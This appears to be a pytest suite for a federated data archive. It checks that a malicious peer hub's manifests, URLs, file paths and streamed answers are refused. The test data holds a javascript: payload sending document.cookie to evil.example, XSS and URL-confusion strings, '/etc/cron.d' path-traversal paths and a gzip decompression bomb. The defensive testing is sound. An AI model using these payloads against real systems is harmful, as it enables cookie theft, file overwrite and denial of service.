"""A registered but malicious peer hub, through the real signed hub-to-hub endpoints (tests/test_federation*.py
pair two honest hubs): what it sends is held to this hub's own rules.

- A sync manifest's ``dataset.url`` (the link on the mirror's public page and on its tombstone, and the mirror's
  visa alias) must be an http(s) address at the peer's pinned address: ``javascript:``, ``data:``, ``//host``,
  another host, port or scheme, credentials, leading blanks are refused, with the reason.
- A manifest's file path must pass the rule local uploads pass (no ``..``, leading ``/``, control characters):
  refused. What that rule lets in (backslashes, drive letters, empty components) never leaves the folder the
  version's ZIP is extracted into, and neither does a path from any other source (``zipdownload.entry_name``).
- Rows stored before these rules (a mirror's link, a harvested landing page, a received manifest) are neither
  linked nor published.
- A peer's catalogue is read up to a size and within a time, trickled headers included, and its landing pages
  must be at the peer; a Beacon answer in federated search is bounded too.
- Every answer this hub reads from a remote partner (a peer's hello, Beacon, catalogue, notice, push and
  fetch answers, a body at the origin's storage, a visa issuer's keys, the identity provider, DataCite) is refused
  when it never ends, drips for ever or inflates (compressed), within its bound, and nothing of it is stored.
"""

from __future__ import annotations

import asyncio
import base64
import dataclasses
import datetime as dt
import functools
import gzip
import hashlib
import io
import json
import re
import socket
import tempfile
import threading
import time
import uuid
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, Response, StreamingResponse
from starlette.routing import Route

from conftest import bearer, token_for, web_client
from strongroom.access import visas
from strongroom.access.models import Entitlement
from strongroom.archive import c4gh
from strongroom.archive import files as archive_files
from strongroom.archive.accession import new_accession
from strongroom.archive.backend import storage_for
from strongroom.archive.keys import ensure_key, hub_keys
from strongroom.archive.models import Dataset, DatasetFile, DatasetVersion
from strongroom.archive.storage.config import StorageSettings
from strongroom.archive.zipdownload import entry_name
from strongroom.audit.models import AuditEvent
from strongroom.audit.service import Actor
from strongroom.catalog import datacite_client
from strongroom.catalog.models import CatalogEntry
from strongroom.config import OidcSettings
from strongroom.db import transaction, utcnow
from strongroom.errors import Unauthenticated, Unavailable
from strongroom.federation import manifest as mf
from strongroom.federation import notices, service, signing, sync
from strongroom.federation.models import Incoming, IncomingFile, Mirror, Notice, Peer, RemoteEntry, SyncFile, SyncRun
from strongroom.identity import oidc
from strongroom.projects import service as projects
from support.live import free_port, serving
from support.seaweed import seaweedfs  # noqa: F401 - session fixture (the S3-to-S3 case only)

EVIL = "http://evil.example"
GOOD_URL = f"{EVIL}/datasets/EVIL1"
PAYLOAD = "javascript:fetch('//evil.example/?c='+document.cookie)"
HUB = "http://127.0.0.1:8000"

# dataset.url forms a peer may not send: each a link on this hub's public pages
BAD_URLS = {
    "javascript": PAYLOAD,
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "mixed-case": "JAVASCRIPT:alert(1)",
    "leading-blank": " javascript:alert(1)",
    "leading-blank-at-peer": f" {GOOD_URL}",
    "trailing-newline-at-peer": f"{GOOD_URL}\n",
    "tab-inside": "java\tscript:alert(1)",
    "scheme-relative": "//evil.example/datasets/EVIL1",
    "other-host": "http://other-host.example/datasets/EVIL1",
    "host-suffix": "http://evil.example.attacker.example/datasets/EVIL1",
    "credentials-other-host": "http://evil.example@other-host.example/datasets/EVIL1",
    "credentials-at-peer": "http://user:pw@evil.example/datasets/EVIL1",
    "other-scheme": "https://evil.example/datasets/EVIL1",
    "other-port": "http://evil.example:8443/datasets/EVIL1",
    "backslash": "http://evil.example\\@other-host.example/",
    "relative": "/datasets/EVIL1",
    # dot segments however a server behind the peer's address may read them (a path on a shared host would
    # otherwise lead under another tenant's path)
    "dot-dot-semicolon": f"{EVIL}/datasets/..;/other-tenant/x",
    "double-encoded-dots": f"{EVIL}/datasets/%252e%252e/other-tenant/x",
    "encoded-slash-dots": f"{EVIL}/datasets/a%2F..%2Fother-tenant",
    "encoded-dots": f"{EVIL}/%2e%2e/other-tenant/x",
}

# file paths the upload rule refuses: a manifest carrying one is refused
REFUSED_PATHS = {
    "dotdot": "../x",
    "climbing": "a/../../x",
    "cron": "../../../../etc/cron.d/x",
    "absolute": "/etc/x",
    "only-dotdot": "..",
    "nul": "a\x00b",
    "control": "a\x1b[2Jb",
    "trailing-newline": "x\n",
}

# paths the upload rule lets in, and the ZIP entry each becomes (inside the extraction folder on any system)
KEPT_PATHS = {
    "a\\..\\x1": "a/x1.c4gh",
    "C:x2": "C_x2.c4gh",
    "C:\\Windows\\x3": "C_/Windows/x3.c4gh",
    "\\\\srv\\share\\x4": "srv/share/x4.c4gh",
    "a//x5": "a/x5.c4gh",
    "a/./x6": "a/x6.c4gh",
    "scans/ct 01.dcm": "scans/ct 01.dcm.c4gh",
}


@dataclass
class Evil:
    """The malicious peer as this hub registered it, and its way in (the signed endpoints)."""

    key: signing.HubKey
    base_url: str
    c: TestClient
    hub: object


def _evil(app, hub, base_url: str = EVIL) -> Evil:
    ensure_key(hub)
    key = signing.HubKey.generate()
    with transaction(hub.sessions) as s:
        service.register_peer(s, hub.settings, Actor.system("cli:operator"), {
            "name": "evil-hub", "base_url": base_url, "signing_key": signing.public_pem(key.public),
            "archive_key": c4gh.public_key_file(c4gh.generate_keypair().public).decode(), "visa_issuer": base_url,
            "jwks_url": base_url + "/.well-known/jwks.json"})
    return Evil(key, base_url, TestClient(app, base_url=HUB), hub)


def _post(evil: Evil, path: str, body: bytes):
    signed = evil.key.sign("POST", path, "", body, recipient=evil.hub.settings.base_url)  # addressed to this hub
    return evil.c.post(path, content=body, headers={**signed, "Content-Type": "application/json"})


def _manifest(evil: Evil, *, url: str = GOOD_URL, paths: tuple[str, ...] = ("scan/one.dcm",),
              sync_id: str = "s1") -> tuple[dict, list[bytes]]:
    """A manifest as the peer signs it (its bodies encrypted to this hub's archive key, so they verify)."""
    receiver = c4gh.parse_public_key(evil.c.get("/api/v1/archive/public-key").text)
    files, bodies = [], []
    for i, path in enumerate(paths, 1):
        data = f"not really a DICOM file {i}".encode()
        stream = io.BytesIO(b"".join(c4gh.encrypt_stream([data], receiver)))
        header = c4gh.read_header(stream)
        body = stream.read()
        files.append({"id": f"F{i}", "path": path, "body_size": len(body),
                      "body_sha256": hashlib.sha256(body).hexdigest(), "plaintext_size": len(data),
                      "plaintext_sha256": hashlib.sha256(data).hexdigest(),
                      "header": base64.b64encode(header).decode()})
        bodies.append(body)
    doc = {"format": mf.FORMAT, "sync_id": sync_id, "origin": evil.base_url, "origin_name": "Evil Hub",
           "recipient_key_id": service.hub_key(evil.hub.settings).key_id, "created": "2026-01-01T00:00:00+00:00",
           "dataset": {"id": "EVIL1", "title": "Evil mirror", "description": "d" * 60, "url": url, "owner": "Owner",
                       "published": True, "applicant_download": True},
           "versions": [{"number": 1, "note": "", "files": [f["id"] for f in files], "released_at": None}],
           "files": files}
    return doc, bodies


def _send_manifest(evil: Evil, doc: dict):
    envelope = json.dumps({"manifest": doc, "signature": signing.sign_document(evil.key.private,
                                                                               mf.canonical(doc))}).encode()
    return _post(evil, f"{sync.SYNC_PATH}/manifest", envelope)


def _send_bodies(evil: Evil, doc: dict, bodies: list[bytes]) -> None:
    for f, body in zip(doc["files"], bodies, strict=True):
        path = f"{sync.SYNC_PATH}/{doc['sync_id']}/files/{f['id']}"
        r = evil.c.put(path, content=body, headers={
            **evil.key.sign("PUT", path, "", body_sha256=hashlib.sha256(body).hexdigest(),
                            recipient=evil.hub.settings.base_url),
            "Content-Type": "application/octet-stream"})
        assert r.status_code == 200, r.text


def _publish(evil: Evil, sync_id: str = "s1"):
    return _post(evil, f"{sync.SYNC_PATH}/{sync_id}/publish", b"{}")


def _push(evil: Evil, doc: dict, bodies: list[bytes]) -> str:
    """Manifest, bodies, publish: the mirror's landing page (a path on this hub)."""
    r = _send_manifest(evil, doc)
    assert r.status_code == 200, r.text
    _send_bodies(evil, doc, bodies)
    r = _publish(evil, doc["sync_id"])
    assert r.status_code == 200, r.text
    return "/" + r.json()["url"].split("/", 3)[3]


def _nothing_received(hub) -> None:
    with hub.sessions() as s:
        assert s.scalar(select(func.count()).select_from(Incoming)) == 0
        assert s.scalar(select(func.count()).select_from(Mirror)) == 0
        refused = list(s.scalars(select(AuditEvent).where(AuditEvent.action == "federation.sync.refused")))
    assert [e.details["what"] for e in refused] == ["manifest"]


def _mirror_link(page: str) -> str:
    """The href of the mirror's link to its origin (landing page or tombstone)."""
    at = max(page.find('id="mirror-of"'), page.find('id="mirror-origin"'))
    assert at >= 0, page
    return page[at:].split('href="', 1)[1].split('"', 1)[0]


# -- dataset.url -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("url", list(BAD_URLS.values()), ids=list(BAD_URLS))
def test_a_manifest_whose_dataset_url_is_not_at_the_peer_is_refused(app, hub, url):
    evil = _evil(app, hub)
    doc, _ = _manifest(evil, url=url)
    r = _send_manifest(evil, doc)
    assert r.status_code == 422, r.text
    assert "dataset.url must be an http(s) address at the origin's pinned address" in r.json()["detail"]
    _nothing_received(hub)


def test_a_mirror_links_the_dataset_at_its_origin_and_is_named_by_it_in_visas(app, hub):
    """The control: an address at the peer is accepted, linked, and the mirror's visa alias."""
    evil = _evil(app, hub)
    landing = _push(evil, *_manifest(evil))
    page = evil.c.get(landing)
    assert page.status_code == 200 and _mirror_link(page.text) == GOOD_URL
    with hub.sessions() as s:
        ds = s.scalar(select(Mirror.dataset_id))
        assert sync.mirror_aliases(s, ds)[0] == (GOOD_URL, EVIL)


def test_a_mirror_row_from_before_the_rule_links_only_to_the_peer(app, hub):
    """A mirror received before ``dataset.url`` was checked: its landing page and its tombstone link the peer's
    pinned address instead."""
    evil = _evil(app, hub)
    doc, bodies = _manifest(evil)
    r = _send_manifest(evil, doc)
    assert r.status_code == 200, r.text
    _send_bodies(evil, doc, bodies)
    landing = "/" + _publish(evil).json()["url"].split("/", 3)[3]
    with transaction(hub.sessions) as s:
        s.scalar(select(Mirror)).origin_url = PAYLOAD
    page = evil.c.get(landing)
    assert page.status_code == 200
    assert _mirror_link(page.text) == EVIL and "javascript:" not in page.text
    notice = json.dumps({"format": "strongroom.notice/1", "origin": EVIL, "origin_name": "Evil Hub",
                         "recipient_key_id": service.hub_key(hub.settings).key_id, "dataset": "EVIL1",
                         "kind": "withdrawn", "version": 0, "reason": "gone"}).encode()
    r = _post(evil, f"{sync.SYNC_PATH}/notice", notice)
    assert r.status_code == 200 and r.json()["status"] == "applied", r.text
    tombstone = evil.c.get(landing)
    assert tombstone.status_code == 410
    assert _mirror_link(tombstone.text) == EVIL and "javascript:" not in tombstone.text


# -- file paths -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("path", list(REFUSED_PATHS.values()), ids=list(REFUSED_PATHS))
def test_a_manifest_with_a_path_the_upload_rule_refuses_is_refused(app, hub, path):
    evil = _evil(app, hub)
    doc, _ = _manifest(evil, paths=("fine/one.dcm", path))
    r = _send_manifest(evil, doc)
    assert r.status_code == 422, r.text
    assert "bad file path" in r.json()["detail"] and "without control characters or '..'" in r.json()["detail"]
    _nothing_received(hub)


def test_the_paths_the_upload_rule_lets_in_stay_inside_the_zip_an_applicant_downloads(app, hub, people):
    evil = _evil(app, hub)
    _push(evil, *_manifest(evil, paths=tuple(KEPT_PATHS)))
    rita = people("rita")
    now = dt.datetime.now(dt.UTC)
    with transaction(hub.sessions) as s:
        ds = s.scalar(select(Mirror.dataset_id))
        s.add(Entitlement(user_id=rita.user.id, dataset_id=ds, version=None, starts_at=now - dt.timedelta(days=1),
                          ends_at=now + dt.timedelta(days=30)))
    key = c4gh.generate_keypair()
    r = evil.c.post("/api/v1/me/keys", json={"name": "laptop", "public_key": c4gh.public_key_file(key.public).decode()},
                    headers=bearer(token_for(hub, rita)))
    assert r.status_code == 201, r.text
    r = web_client(app, hub, rita).get(f"/datasets/{ds}/versions/1/download.zip")
    assert r.status_code == 200, r.text[:300]
    names = zipfile.ZipFile(io.BytesIO(r.content)).namelist()
    assert sorted(names) == sorted(KEPT_PATHS.values())


@pytest.mark.parametrize("path", [*REFUSED_PATHS.values(), *list(KEPT_PATHS)[:-1], "/", "", "./.", ". ./..",
                                  "a/.. /x", "D:/x", "c:\\x", "a\\b\\..\\..\\..\\x", "..\\..\\x"])
def test_a_zip_entry_never_leaves_the_extraction_folder_whatever_the_path(path):
    """``entry_name`` is safe on its own: a path from any source, a row stored before any rule included."""
    seen: set[str] = set()
    name = entry_name(path, "SRF-TEST", seen)
    parts = name.split("/")
    assert name.endswith(".c4gh") and "\\" not in name and not name.startswith("/")
    assert all(p.strip(". ") and ":" not in p[:2] for p in parts), name
    assert not any(ch < " " or ch == "\x7f" for ch in name), name
    assert entry_name(path, "SRF-OTHER", seen) != name  # the same path twice: the accession tells them apart


def test_a_manifest_received_before_the_path_rule_is_not_published(app, hub):
    evil = _evil(app, hub)
    doc, bodies = _manifest(evil)
    assert _send_manifest(evil, doc).status_code == 200
    _send_bodies(evil, doc, bodies)
    with transaction(hub.sessions) as s:
        inc = s.scalar(select(Incoming))
        stored = json.loads(json.dumps(inc.manifest))
        stored["files"][0]["path"] = "../../../../etc/cron.d/x"
        inc.manifest = stored
    r = _publish(evil)
    assert r.status_code == 409 and "does not pass this hub's rules" in r.json()["detail"], r.text
    with hub.sessions() as s:
        assert s.scalar(select(func.count()).select_from(Mirror)) == 0


# -- harvesting and federated search from a peer that answers badly -----------------------------------------
def _ttl(base: str, landings: dict[str, str], padding: int = 0) -> bytes:
    lines = ["@prefix dcat: <http://www.w3.org/ns/dcat#> .", "@prefix dct: <http://purl.org/dc/terms/> ."]
    for name, landing in landings.items():
        lines.append(f'<{base}/catalog/{name}#it> a dcat:Dataset ; dct:title "{name}" ; dcat:landingPage <{landing}> .')
    text = "\n".join(lines) + "\n"
    while len(text) < padding:
        text += "# " + "x" * 1000 + "\n"
    return text.encode()


@contextmanager
def _fake_peer(state: dict) -> Iterator[str]:
    """A peer hub's web server that answers as ``state`` says (it never checks who asks)."""
    async def healthz(request: Request) -> Response:
        return PlainTextResponse("ok")

    async def catalog(request: Request) -> Response:
        body: bytes = state["catalog"]
        if state.get("mode") == "chunked":
            async def chunks():
                for i in range(0, len(body), 16384):
                    yield body[i:i + 16384]
            return StreamingResponse(chunks(), media_type="text/turtle")
        if state.get("mode") == "trickle":
            async def trickle():
                for i in range(0, len(body), max(len(body) // 12, 1)):
                    yield body[i:i + max(len(body) // 12, 1)]
                    await anyio.sleep(0.25)
            return StreamingResponse(trickle(), media_type="text/turtle")
        return Response(body, media_type="text/turtle")

    async def beacon(request: Request) -> Response:
        return JSONResponse(state["beacon"])

    app = Starlette(routes=[Route("/healthz", healthz), Route(f"{service.PEER_PATH}/catalog.ttl", catalog),
                            Route("/ga4gh/beacon/v2/datasets", beacon)])
    with serving(app, free_port()) as url:
        state["url"] = url
        yield url


def _harvest(hub) -> dict:
    return service.harvest(hub, lambda: transaction(hub.sessions))


def _remote(hub) -> list[str]:
    with hub.sessions() as s:
        return sorted(s.scalars(select(RemoteEntry.landing_url)))


def _harvest_forms(url: str) -> dict[str, str]:
    port = int(url.rsplit(":", 1)[1])
    return {"other-host": "http://other-host.example/catalog/x", "other-port": f"http://127.0.0.1:{port + 1}/x",
            "credentials": f"http://user@127.0.0.1:{port}/catalog/x", "other-scheme": f"https://127.0.0.1:{port}/x",
            "port-trick": f"http://127.0.0.1:{port}.evil.example/x", "dot-segments": f"{url}/catalog/../../x"}


@pytest.mark.parametrize("form", ["other-host", "other-port", "credentials", "other-scheme", "port-trick",
                                  "dot-segments"])
def test_a_harvested_landing_page_must_be_at_the_peer(app, hub, form):
    state: dict = {}
    with _fake_peer(state) as url:
        _evil(app, hub, url)
        bad = _harvest_forms(url)[form]
        state["catalog"] = _ttl(url, {"good": f"{url}/catalog/good", "bad": bad, "js": "javascript:alert(1)",
                                      "data": "data:text/html,x", "vb": "vbscript:x", "js2": "JAVASCRIPT:alert(1)"})
        assert _harvest(hub) == {"evil-hub": {"entries": 1, "removed": 0}}
    assert _remote(hub) == [f"{url}/catalog/good"]
    page = TestClient(app, base_url=HUB).get("/catalog").text
    assert f'href="{url}/catalog/good"' in page and bad not in page


def test_a_harvested_entry_from_before_the_rule_is_not_linked(app, hub):
    evil = _evil(app, hub)
    with transaction(hub.sessions) as s:
        peer = s.scalar(select(Peer))
        for title, url in (("Old evil entry", PAYLOAD), ("Old good entry", f"{EVIL}/catalog/good")):
            s.add(RemoteEntry(peer_id=peer.id, remote_id=title, landing_url=url, title=title,
                              search_text=title.lower(), harvested_at=utcnow()))
    page = evil.c.get("/catalog").text
    assert "Old good entry" in page and "Old evil entry" not in page and "javascript:" not in page


@pytest.mark.parametrize("mode", ["announced", "chunked"])
def test_an_oversized_catalogue_is_not_read_and_the_last_harvest_stays(app, hub, monkeypatch, mode):
    monkeypatch.setattr(service, "MAX_CATALOG_BYTES", 64 * 1024, raising=False)
    state: dict = {}
    with _fake_peer(state) as url:
        _evil(app, hub, url)
        state["catalog"] = _ttl(url, {"good": f"{url}/catalog/good"})
        assert _harvest(hub) == {"evil-hub": {"entries": 1, "removed": 0}}
        state["catalog"], state["mode"] = _ttl(url, {"other": f"{url}/catalog/other"}, padding=1024 * 1024), mode
        result = _harvest(hub)
    assert result["evil-hub"]["error"].startswith("catalogue not read: larger than 65536 bytes"), result
    assert _remote(hub) == [f"{url}/catalog/good"]
    with hub.sessions() as s:
        assert s.scalar(select(Peer.last_harvest_error)).startswith("catalogue not read: larger than")


def test_the_default_catalogue_limit_is_20_mib(app, hub):
    state: dict = {}
    with _fake_peer(state) as url:
        _evil(app, hub, url)
        state["catalog"] = _ttl(url, {"good": f"{url}/catalog/good"}, padding=20 * 1024 * 1024 + 1)
        result = _harvest(hub)
    assert result == {"evil-hub": {"error": f"catalogue not read: larger than {20 * 1024 * 1024} bytes "
                                            f"({len(state['catalog'])} announced)"}}


def test_a_trickled_catalogue_is_cut_off_in_time(app, hub, monkeypatch):
    monkeypatch.setattr(service, "CATALOG_SECONDS", 1.0, raising=False)
    state: dict = {"mode": "trickle"}
    with _fake_peer(state) as url:
        _evil(app, hub, url)
        state["catalog"] = _ttl(url, {"good": f"{url}/catalog/good"})  # sent over 3 s
        started = time.monotonic()
        result = _harvest(hub)
        took = time.monotonic() - started
    assert result == {"evil-hub": {"error": "catalogue not read: not sent within 1 s"}}, result
    assert took < 2.5 and _remote(hub) == []


def test_trickled_headers_are_cut_off_in_time(app, hub, monkeypatch):
    """A peer that sends a header line every 0.3 s, each within the read timeout, never finishing them."""
    monkeypatch.setattr(service, "CATALOG_SECONDS", 1.0, raising=False)
    listener = socket.create_server(("127.0.0.1", free_port()))
    stop = threading.Event()

    def serve() -> None:
        conn, _ = listener.accept()
        with conn:
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\n")
            for i in range(10):  # 3 s of headers, then an empty catalogue
                if stop.wait(0.3):
                    return
                try:
                    conn.sendall(f"X-Slow-{i}: 1\r\n".encode())
                except OSError:
                    return
            conn.sendall(b"Content-Length: 0\r\nConnection: close\r\n\r\n")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        _evil(app, hub, f"http://127.0.0.1:{listener.getsockname()[1]}")
        started = time.monotonic()
        result = _harvest(hub)
        took = time.monotonic() - started
    finally:
        stop.set()
        thread.join(10)
        listener.close()
    assert result == {"evil-hub": {"error": "catalogue not read: not sent within 1 s"}}, result
    assert took < 2.5


def test_an_oversized_beacon_answer_is_not_read_in_federated_search(app, hub):
    state: dict = {"beacon": {"meta": {}, "responseSummary": {"exists": True, "numTotalResults": 5},
                              "padding": "x" * (2 * 1024 * 1024)}}
    with _fake_peer(state):
        _evil(app, hub, state["url"])
        with transaction(hub.sessions) as s:
            own, answer = service.federated_search(s, hub, Actor.system("t"), "dataset", [])
    assert own.ok and not answer.ok and answer.error.startswith("answer not read: larger than 1048576 bytes")



# -- every answer of a remote partner, bounded ------------------------------------------------------------
# A partner at its worst answers one request (``bad``) with an answer that never ends, one that drips a byte at a
# time for ever, or a small compressed body that inflates far past every bound; every other request as an honest
# partner would. Each way this hub reads a remote answer — federation's (hello, Beacon, catalogue, notice, a push's
# manifest, body, fetch offer and publish, a body fetched from the origin's storage), a visa issuer's keys, the
# identity provider's discovery and token answers, DataCite's — is refused within its bound (the time bounds are
# set to 2 s here), says which bound, and leaves nothing stored.
MODES = ("oversized", "slow-drip", "compressed")
REFUSAL = {"oversized": "larger than", "slow-drip": "not sent within 2", "compressed": "a compressed answer (gzip)"}
PATIENCE = 20.0  # seconds: what every refusal below takes at most (its bound is 2 s)
SMALL = 64 * 1024  # the size bounds here (an answer read whole is over at once)


@functools.cache
def _bomb() -> bytes:
    return gzip.compress(b"\0" * 16 * 1024 * 1024)  # 16 KiB that inflate to 16 MiB


def _read_request(conn: socket.socket) -> tuple[str, str]:
    stream = conn.makefile("rb")
    method, target, _ = stream.readline().decode().split(" ", 2)
    length = 0
    while (line := stream.readline()) not in (b"\r\n", b""):
        name, _, value = line.decode().partition(":")
        if name.strip().lower() == "content-length":
            length = int(value)
    stream.read(length)  # the request's body, read whole before answering
    return method, target.split("?", 1)[0]


class BadPartner:
    """A partner's web server on loopback: a request ``bad(method, path)`` picks is answered in ``mode``, the rest
    honestly (a push's manifest, body and publish, OpenID discovery; 404 otherwise)."""

    def __init__(self, mode: str, bad: Callable[[str, str], bool]) -> None:
        self.mode, self.bad = mode, bad
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.netloc = f"127.0.0.1:{self.listener.getsockname()[1]}"
        self.url = f"http://{self.netloc}"
        self.stop = threading.Event()
        self._threads = [threading.Thread(target=self._accept, daemon=True)]
        self._threads[0].start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:  # closed: the test is over
                return
            thread = threading.Thread(target=self._answer, args=(conn,), daemon=True)
            self._threads.append(thread)
            thread.start()

    def _answer(self, conn: socket.socket) -> None:
        with conn:
            try:
                method, path = _read_request(conn)
                if self.bad(method, path):
                    self._badly(conn)
                    return
                status, doc = self._honestly(method, path)
                body = json.dumps(doc).encode()
                conn.sendall(f"HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: "
                             f"{len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
            except (OSError, ValueError):  # the client stopped reading: what a bound does
                return

    def _honestly(self, method: str, path: str) -> tuple[int, dict]:
        if path.endswith("/sync/manifest"):
            return 200, {"state": "receiving", "have": []}
        if method == "PUT" and "/files/" in path:
            return 200, {"status": "stored"}
        if path.endswith("/publish"):
            return 200, {"dataset": "SRD-MIRROR", "url": f"{self.url}/catalog/mirror"}
        if path == "/.well-known/openid-configuration":
            return 200, {"issuer": self.url, "authorization_endpoint": f"{self.url}/authorize",
                         "token_endpoint": f"{self.url}/token", "jwks_uri": f"{self.url}/jwks"}
        return 404, {"detail": "not here"}

    def _badly(self, conn: socket.socket) -> None:
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
        if self.mode == "compressed":
            conn.sendall(head + f"Content-Encoding: gzip\r\nContent-Length: {len(_bomb())}\r\n\r\n".encode() + _bomb())
            return
        conn.sendall(head + b"\r\n")  # no length: the body ends when the connection does
        if self.mode == "oversized":
            block = b" " * 65536
            for _ in range(1024):  # 64 MiB, far past every bound
                if self.stop.is_set():
                    return
                conn.sendall(block)
            return
        while not self.stop.wait(0.1):  # slow-drip: a byte every 0.1 s, for as long as anyone reads
            conn.sendall(b" ")

    def close(self) -> None:
        self.stop.set()
        self.listener.shutdown(socket.SHUT_RDWR)  # wakes the accept (closing alone does not)
        self.listener.close()
        for thread in self._threads:
            thread.join(10)


@contextmanager
def _bad_partner(mode: str, bad: Callable[[str, str], bool]) -> Iterator[BadPartner]:
    partner = BadPartner(mode, bad)
    try:
        yield partner
    finally:
        partner.close()


def _path_is(expected: str) -> Callable[[str, str], bool]:
    return lambda method, path: path == expected


def _within(call: Callable[[], Any]) -> Any:
    """``call()``'s result (or its exception) within PATIENCE: an answer read for ever fails the test instead."""
    outcome: dict[str, Any] = {}

    def run() -> None:
        try:
            outcome["value"] = call()
        except BaseException as exc:  # handed to the test
            outcome["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(PATIENCE)
    assert not thread.is_alive(), f"still reading the partner's answer after {PATIENCE:g} s"
    if "error" in outcome:
        raise outcome["error"]
    return outcome["value"]


@dataclass
class Trial:
    app: Any
    hub: Any
    people: Any
    request: pytest.FixtureRequest
    monkeypatch: pytest.MonkeyPatch
    mode: str

    @property
    def refusal(self) -> str:
        return REFUSAL[self.mode]


def _pushable(t: Trial) -> None:
    """A dataset published here (one released version of one archived file): what a push sends."""
    ensure_key(t.hub)
    olga = t.people("olga")
    with transaction(t.hub.sessions) as s:
        project_id = projects.create_project(s, Actor.system("t"), slug="lung", name="Lung", pi="olga",
                                             ethics_ref="E1", end_date=dt.date.today() + dt.timedelta(days=365)).id
    with tempfile.TemporaryDirectory() as tmp, transaction(t.hub.sessions) as s:
        plain = Path(tmp) / "scan.dcm"
        plain.write_bytes(b"not really a DICOM file " * 100)
        sealed = archive_files.seal_into_storage(hub_keys(t.hub, s), storage_for(t.hub), project_id,
                                                 new_accession("SRF"), str(plain))
        f = archive_files.add_sealed_file(s, project_id, olga.user.id, "scans/scan.dcm", sealed)
        s.add(Dataset(id="SRD-PUSHED", project_id=project_id, title="Chest CT", created_by=olga.user.id))
        s.flush()
        version = DatasetVersion(dataset_id="SRD-PUSHED", number=1, state="released", file_count=1,
                                 total_bytes=f.plaintext_size or 0, released_at=utcnow())
        s.add(version)
        s.flush()
        s.add(DatasetFile(version_id=version.id, file_id=f.id))
        s.add(CatalogEntry(dataset_id="SRD-PUSHED", slug="chest-ct", title="Chest CT", description="Lungs",
                           created_by=olga.user.id, published=True, published_at=utcnow()))


def _push_to_partner(t: Trial, bad: Callable[[str, str], bool], *, acknowledged: int) -> None:
    """A push to the partner fails (to be retried) at the bad answer: only the bodies acknowledged before it are
    checkpointed, and the push is not completed."""
    _pushable(t)
    with _bad_partner(t.mode, bad) as partner:
        _evil(t.app, t.hub, partner.url)
        with transaction(t.hub.sessions) as s:
            run_id = sync.start_sync(s, t.hub.settings, Actor.system("cli:operator"), "SRD-PUSHED", "evil-hub").id
        with pytest.raises(RuntimeError, match="push to evil-hub failed"):
            _within(lambda: sync.run_sync(t.hub, run_id))
    with t.hub.sessions() as s:
        run = s.get(SyncRun, run_id)
        assert run.state == "failed" and "answer not read: " + t.refusal in run.error, run.error
        assert run.finished_at is None and run.files_done == acknowledged
        assert s.scalar(select(func.count()).select_from(SyncFile)) == acknowledged
        assert not s.scalar(select(func.count()).select_from(AuditEvent)
                            .where(AuditEvent.action == "federation.sync.completed"))


def _last_exchange(hub) -> AuditEvent:
    with hub.sessions() as s:
        return s.scalars(select(AuditEvent).where(AuditEvent.action == "federation.exchange.sent")
                         .order_by(AuditEvent.seq.desc())).first()


def _hello(t: Trial) -> None:
    with _bad_partner(t.mode, _path_is(f"{service.PEER_PATH}/hello")) as partner:
        _evil(t.app, t.hub, partner.url)
        ok, said = _within(lambda: service.hello(t.hub, "evil-hub", Actor.system("cli:operator")))
    assert not ok and said.startswith("answer not read: " + t.refusal), said
    event = _last_exchange(t.hub)
    assert event.outcome == "failed" and event.details["error"] == said


def _beacon(t: Trial) -> None:
    def search() -> list[service.Answer]:
        with transaction(t.hub.sessions) as s:
            return service.federated_search(s, t.hub, Actor.system("t"), "dataset", [])

    with _bad_partner(t.mode, _path_is("/ga4gh/beacon/v2/datasets")) as partner:
        _evil(t.app, t.hub, partner.url)
        own, answer = _within(search)
    assert own.ok and not answer.ok and answer.error.startswith("answer not read: " + t.refusal), answer
    assert _last_exchange(t.hub).outcome == "failed"


def _catalogue(t: Trial) -> None:
    with _bad_partner(t.mode, _path_is(f"{service.PEER_PATH}/catalog.ttl")) as partner:
        _evil(t.app, t.hub, partner.url)
        result = _within(lambda: _harvest(t.hub))
    error = result["evil-hub"]["error"]
    assert error.startswith("catalogue not read: " + t.refusal), result
    assert _remote(t.hub) == []
    with t.hub.sessions() as s:
        assert s.scalar(select(Peer.last_harvest_error)) == error


def _notice(t: Trial) -> None:
    with _bad_partner(t.mode, _path_is(notices.NOTICE_PATH)) as partner:
        _evil(t.app, t.hub, partner.url)
        with transaction(t.hub.sessions) as s:
            s.add(Notice(peer_id=s.scalar(select(Peer.id)), dataset_id="SRD-1", kind="withdrawn", version=0))
        assert _within(lambda: notices.send(t.hub)) == {"sent": 0, "failed": 1}
    with t.hub.sessions() as s:
        notice = s.scalar(select(Notice))
    assert notice.acked_at is None and notice.attempts == 1  # not acknowledged: sent again at the next run
    assert notice.last_error.startswith("answer not read: " + t.refusal), notice.last_error


def _sync_manifest(t: Trial) -> None:
    _push_to_partner(t, lambda method, path: path.endswith("/sync/manifest"), acknowledged=0)


def _sync_body(t: Trial) -> None:
    _push_to_partner(t, lambda method, path: method == "PUT", acknowledged=0)


def _sync_publish(t: Trial) -> None:
    _push_to_partner(t, lambda method, path: path.endswith("/publish"), acknowledged=1)


def _sync_fetch_offer(t: Trial) -> None:
    """S3 to S3: the peer's answer to the offer of a presigned URL (it fetches the body before it answers)."""
    s3 = t.request.getfixturevalue("seaweedfs")
    t.hub.settings.archive.storage = StorageSettings(
        kind="s3", endpoint_url=s3.endpoint_url, bucket=f"malpeer{uuid.uuid4().hex[:12]}", access_key=s3.access_key,
        secret_key=s3.secret_key, region=s3.region)
    t.hub.settings.federation.presign_bodies = True
